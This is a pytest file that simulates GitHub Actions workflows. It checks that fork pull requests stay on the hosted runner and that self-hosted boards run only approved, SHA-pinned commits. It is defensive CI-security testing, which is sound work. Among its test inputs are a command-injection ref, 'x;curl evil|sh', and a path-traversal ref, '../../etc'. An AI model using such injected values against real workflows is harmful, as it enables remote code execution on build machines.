"""Where each job of the workflows may run, for synthetic events (issue 15, finding 1).

For every event -- a fork's pull request opened / pushed again / labelled by a maintainer, a pull
request of a branch of this repository, a push to main, a manual run, the nightly schedule -- each
workflow file is taken as GitHub would: its triggers decide whether it runs, its jobs' ``if:``
conditions are evaluated (and cross-checked with GitHub's own evaluator, @actions/expressions), the
matrix job's real step computes the job matrix from matrix/, device.yml's ``approve`` step asks a
fake GitHub API on loopback who labelled the pull request and where its head is now, and each job
that runs is expanded to its runner labels and the commit it checks out.

What must hold: a pull_request run never lands on anything but the GitHub-hosted runner, named
literally; a board runs only the commit of main, or the head commit a writer labelled, checked out
by SHA (never the merge ref), and nothing once the pull request moved after the label.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from workflowkit import (
    APPROVAL_LABEL,
    HOSTED,
    LABELLED_SHA,
    MAIN_SHA,
    PUSHED_LATER_SHA,
    REPO,
    REPOSITORY,
    Event,
    FakeGitHubAPI,
    Run,
    check_with_githubs_evaluator,
    dispatch,
    fake_github_api,
    load_workflows,
    pull_request,
    push,
    schedule,
    simulate,
    triggers,
)

#: pull_request events of every kind: the PR's own copy of the workflows runs for these
PULL_REQUEST_EVENTS = [
    pull_request("opened", fork=True),
    pull_request("synchronize", fork=True),
    pull_request("reopened", fork=True),
    pull_request("labeled", fork=True, label=APPROVAL_LABEL, sender="maintainer", permission="admin"),
    pull_request("opened", fork=False, sender="colleague", permission="write"),
    pull_request("synchronize", fork=False, sender="colleague", permission="write"),
]
#: pull_request_target events that must not reach a board
REFUSED_TARGET_EVENTS = [
    pull_request("labeled", fork=True, trigger="pull_request_target", label="documentation", permission="admin"),
    pull_request("labeled", fork=True, trigger="pull_request_target", label=APPROVAL_LABEL, permission="read"),
    pull_request("labeled", fork=True, trigger="pull_request_target", label=APPROVAL_LABEL, permission="none"),
    pull_request(
        "labeled",
        fork=True,
        trigger="pull_request_target",
        label=APPROVAL_LABEL,
        sender="maintainer",
        permission="admin",
        head_now=PUSHED_LATER_SHA,
    ),
    pull_request("synchronize", fork=True, trigger="pull_request_target", sender="maintainer", permission="admin"),
    pull_request("opened", fork=True, trigger="pull_request_target"),
]
LABELLED_BY_MAINTAINER = [
    pull_request("labeled", fork=True, trigger="pull_request_target", label=APPROVAL_LABEL, sender="lead", permission=p)
    for p in ("admin", "maintain", "write")
]


@pytest.fixture(scope="module")
def api() -> FakeGitHubAPI:
    with fake_github_api() as server:
        yield server


@pytest.fixture(scope="module")
def simulated(api: FakeGitHubAPI, tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    workflows = load_workflows()
    tmp = tmp_path_factory.mktemp("events")
    runs: list[Run] = []

    def run_all(event: Event) -> list[Run]:
        out = [simulate(name, wf, event, api, tmp) for name, wf in workflows.items()]
        runs.extend(out)
        return out

    yield run_all
    # every if: decided above, decided the same by GitHub's own expression evaluator
    check_with_githubs_evaluator([c for run in runs for c in run.conditions])


def _boards(runs: list[Run]) -> list[tuple[str, str, list[str], list[str | None]]]:
    return [(r.workflow, x.job_id, x.runs_on, x.checkouts) for r in runs for x in r.landings if x.runs_on != [HOSTED]]


@pytest.mark.parametrize("event", PULL_REQUEST_EVENTS, ids=lambda e: e.what)
def test_a_pull_request_run_lands_on_the_hosted_runner_only(simulated, event: Event) -> None:  # type: ignore[no-untyped-def]
    runs = simulated(event)
    ran = {r.workflow: r for r in runs if r.results}
    assert _boards(runs) == []
    if event.action == "labeled":  # a label starts nothing under pull_request (device.yml takes it, by target)
        assert ran == {}
        return
    assert set(ran) == {"pull_request.yml"}  # device.yml / nightly.yml / pr_comment.yml have no pull_request trigger
    landings = ran["pull_request.yml"].landings
    assert {x.job_id for x in landings} == {"lint", "tests", "matrix", "hosted-cells"}
    for landing in landings:
        assert landing.job["runs-on"] == HOSTED, "written literally, not computed from the pull request's matrix/"
        assert landing.checkouts == [None]  # the event's own commit (the merge commit of the PR's files)


@pytest.mark.parametrize("event", REFUSED_TARGET_EVENTS, ids=lambda e: e.what)
def test_a_board_runs_nothing_without_a_writers_label_on_the_current_head(simulated, event: Event) -> None:  # type: ignore[no-untyped-def]
    runs = simulated(event)
    assert _boards(runs) == []
    device = next(r for r in runs if r.workflow == "device.yml")
    if device.results.get("approve") == "failure":  # the approve step refused, saying why
        reason = device.stderr["approve"]
        assert "::error::workflow_matrix: not approved:" in reason
        if event.head_now != LABELLED_SHA:
            assert f"moved from {LABELLED_SHA} (labelled) to {PUSHED_LATER_SHA}" in reason
        else:
            assert "only admin, maintain, write may approve" in reason
        assert device.results["device-cells"] == "skipped"


@pytest.mark.parametrize("event", LABELLED_BY_MAINTAINER, ids=lambda e: e.what)
def test_a_writers_label_runs_exactly_the_labelled_head_on_the_boards(
    simulated, api: FakeGitHubAPI, event: Event
) -> None:  # type: ignore[no-untyped-def]
    api.requests.clear()
    runs = simulated(event)
    device = next(r for r in runs if r.workflow == "device.yml")
    assert device.results == {"approve": "success", "device-cells": "success"}
    assert f"/repos/{REPOSITORY}/collaborators/lead/permission" in api.requests
    assert f"/repos/{REPOSITORY}/pulls/7" in api.requests
    boards = _boards(runs)
    assert {tuple(b[2]) for b in boards} == {
        ("self-hosted", "gpu-x86"),
        ("self-hosted", "jetson-orin"),
        ("self-hosted", "ti-tda4"),
        ("self-hosted", "drive-orin"),
    }
    for workflow, job_id, _, checkouts in boards:
        assert (workflow, job_id) == ("device.yml", "device-cells")
        assert checkouts == [LABELLED_SHA], "the labelled SHA, never refs/pull/N/merge"
    approve = next(x for x in device.landings if x.job_id == "approve")
    assert approve.checkouts == [None]  # the base branch's code decides (pull_request_target's default)
    assert approve.job["runs-on"] == HOSTED
    # no other workflow ran for the label
    assert {r.workflow for r in runs if r.results} == {"device.yml"}


def test_a_push_to_main_runs_hosted_cells_and_the_boards_on_that_commit(simulated) -> None:  # type: ignore[no-untyped-def]
    runs = simulated(push())
    assert {r.workflow for r in runs if r.results} == {"pull_request.yml", "device.yml"}
    boards = _boards(runs)
    assert len(boards) == 4 and all(b[:2] == ("device.yml", "device-cells") and b[3] == [MAIN_SHA] for b in boards)


@pytest.mark.parametrize("event", [push("refs/heads/feature"), dispatch("refs/heads/feature")], ids=lambda e: e.what)
def test_branches_other_than_main_never_reach_a_board(simulated, event: Event) -> None:  # type: ignore[no-untyped-def]
    runs = simulated(event)
    assert _boards(runs) == []
    for run in runs:  # and a manual nightly run on a branch does nothing at all (it would push the history)
        if run.workflow == "nightly.yml":
            assert set(run.results.values()) <= {"skipped"}


@pytest.mark.parametrize("event", [schedule(), dispatch()], ids=lambda e: e.what)
def test_the_nightly_run_takes_the_boards_on_main(simulated, event: Event) -> None:  # type: ignore[no-untyped-def]
    runs = simulated(event)
    nightly = next(r for r in runs if r.workflow == "nightly.yml")
    assert nightly.results == {
        "matrix": "success",
        "hosted-cells": "success",
        "device-cells": "success",
        "report": "success",
        "pages": "success",
    }
    assert {b[0] for b in _boards(runs)} <= {"nightly.yml", "device.yml", "refresh_baselines.yml"}


def test_only_reviewed_triggers_can_reach_a_board() -> None:
    # a workflow whose jobs can land on a board (runs-on computed, not the hosted literal) has only
    # triggers that run the default branch's copy of it
    trusted = {"push", "schedule", "workflow_dispatch", "pull_request_target"}
    for name, wf in load_workflows().items():
        board_jobs = [j for j, job in wf["jobs"].items() if job["runs-on"] != HOSTED]
        if board_jobs:
            on = triggers(wf)
            assert set(on) <= trusted, (name, set(on))
            assert on.get("push") in (None, {"branches": ["main"]}), name
            assert on.get("pull_request_target") in (None, {"types": ["labeled"]}), name


def test_the_device_jobs_verify_the_checked_out_commit() -> None:
    job = load_workflows()["device.yml"]["jobs"]["device-cells"]
    names = [s.get("name", s.get("uses", s.get("run", ""))) for s in job["steps"]]
    verify = job["steps"][1]
    assert names[1] == "Verify the checkout is the approved commit", names
    assert '"$(git rev-parse HEAD)"' in verify["run"] and verify["env"] == {
        "APPROVED_SHA": "${{ needs.approve.outputs.sha }}"
    }
    assert job["steps"][0]["with"] == {"ref": "${{ needs.approve.outputs.sha }}", "persist-credentials": False}
    assert job["permissions"] == {"contents": "read"}


def test_simulated_runs_use_the_real_matrix_step(simulated) -> None:  # type: ignore[no-untyped-def]
    # the device matrix of a label run comes from the default branch's matrix/ (the checkout of the
    # approve job), here the working tree
    runs = simulated(LABELLED_BY_MAINTAINER[0])
    device = next(r for r in runs if r.workflow == "device.yml")
    targets = [x.matrix["target"] for x in device.landings if x.job_id == "device-cells"]
    assert targets == ["x86_gpu", "jetson", "ti", "driveos"]
    assert Path("matrix/targets.toml").is_file()


def test_a_pull_request_that_points_a_cpu_target_at_a_board_stays_on_the_hosted_runner(
    api: FakeGitHubAPI, tmp_path: Path
) -> None:
    # issue 15: `runner_labels = ["gpu-x86"]` on x86_cpu in a pull request put its hosted-cell job on the
    # board labelled gpu-x86. The pull request's checkout (matrix/ and src/ of the PR) computes the matrix:
    tree = tmp_path / "pr-checkout"
    shutil.copytree(REPO / "src", tree / "src", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(REPO / "matrix", tree / "matrix", ignore=shutil.ignore_patterns("baselines"))
    targets = tree / "matrix" / "targets.toml"
    targets.write_text(
        targets.read_text().replace('runner_labels = ["ubuntu-24.04"]', 'runner_labels = ["gpu-x86"]', 1)
    )
    wf = load_workflows()["pull_request.yml"]
    run = simulate("pull_request.yml", wf, pull_request("opened", fork=True), api, tmp_path, checkout=tree)
    assert all(x.runs_on == [HOSTED] for x in run.landings)
    assert run.results["matrix"] == "failure" and run.results["hosted-cells"] == "skipped"
    assert "target 'x86_cpu' has runner_labels ['gpu-x86']: neither the GitHub-hosted runner" in run.stderr["matrix"]
    # and had the pull request also rewritten workflow_matrix.py to let the label through, the job still
    # names its runner literally; what stops a pull request that rewrites the YAML too is the runner
    # group of the boards (selected workflows at refs/heads/main: docs/security.md)
    assert wf["jobs"]["hosted-cells"]["runs-on"] == HOSTED


# --------------------------------------------------------------------------------------------------
# the baseline refresh (refresh_baselines.yml): manual, from main, on every runner kind, one commit

BUMP_SHA = "e" * 40
REFRESH_JOBS = {"plan", "lock", "hosted", "device", "pull-request"}


def _refresh(runs: list[Run]) -> Run:
    return next(r for r in runs if r.workflow == "refresh_baselines.yml")


@pytest.mark.parametrize(
    ("event", "sha", "relock"),
    [
        (dispatch(), MAIN_SHA, False),
        (dispatch(inputs={"ref": "main", "relock": False}), MAIN_SHA, False),
        (
            dispatch(
                inputs={"ref": "toolchain/onnxruntime-1.32", "relock": True},
                branches={"toolchain/onnxruntime-1.32": BUMP_SHA},
            ),
            BUMP_SHA,
            True,
        ),
    ],
    ids=["main (form defaults)", "ref main", "a toolchain branch, relocked"],
)
def test_the_refresh_measures_one_commit_on_every_runner_kind(simulated, event: Event, sha: str, relock: bool) -> None:  # type: ignore[no-untyped-def]
    refresh = _refresh(simulated(event))
    assert refresh.results == {
        "plan": "success",
        "lock": "success" if relock else "skipped",
        "hosted": "success",
        "device": "success",
        "pull-request": "success",
    }
    landings = {(x.job_id, tuple(x.runs_on)) for x in refresh.landings}
    boards = {labels for job, labels in landings if job == "device"}
    assert boards == {
        ("self-hosted", "gpu-x86"),
        ("self-hosted", "jetson-orin"),
        ("self-hosted", "ti-tda4"),
        ("self-hosted", "drive-orin"),
    }
    hosted = [x for x in refresh.landings if x.job_id == "hosted"]
    assert {c for x in hosted for c in [x.matrix["cell"]]} >= {"x86_cpu_int8", "x86_cpu_fp32"}
    assert all(x.runs_on == [HOSTED] for x in refresh.landings if x.job_id != "device")
    for x in refresh.landings:
        if x.job_id == "plan":
            assert x.checkouts == [None]  # main: it decides which cells run where
        else:
            assert x.checkouts == [sha], (x.job_id, x.checkouts)  # exactly the planned commit, everywhere
            verify = next(s for s in x.job["steps"] if s.get("name") == "Verify the checkout is the planned commit")
            assert '"$(git rev-parse HEAD)" = "$SHA"' in verify["run"]
    (pr,) = [x for x in refresh.landings if x.job_id == "pull-request"]
    assert pr.job["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert all(
        x.job["permissions"] == {"contents": "read"}
        for x in refresh.landings
        if x.job_id not in ("plan", "pull-request")
    )


@pytest.mark.parametrize(
    "event",
    [
        dispatch(inputs={"ref": "../../etc", "relock": False}),
        dispatch(inputs={"ref": "x;curl evil|sh", "relock": False}),
        dispatch(inputs={"ref": "no-such-branch", "relock": False}),
        dispatch("refs/heads/feature", inputs={"ref": "main", "relock": False}),
    ],
    ids=["a path", "a command", "an unknown branch", "dispatched from a branch"],
)
def test_the_refresh_runs_nothing_for_a_bad_ref_or_off_main(simulated, event: Event) -> None:  # type: ignore[no-untyped-def]
    refresh = _refresh(simulated(event))
    assert set(refresh.results) == REFRESH_JOBS
    assert _boards([refresh]) == []
    assert {refresh.results[j] for j in REFRESH_JOBS - {"plan"}} == {"skipped"}
    if event.github["ref"] == "refs/heads/main":
        assert refresh.results["plan"] == "failure"
        assert "::error::" in refresh.stderr["plan"]
    else:
        assert refresh.results["plan"] == "skipped"


def test_the_refresh_is_manual_only() -> None:
    assert list(triggers(load_workflows()["refresh_baselines.yml"])) == ["workflow_dispatch"]
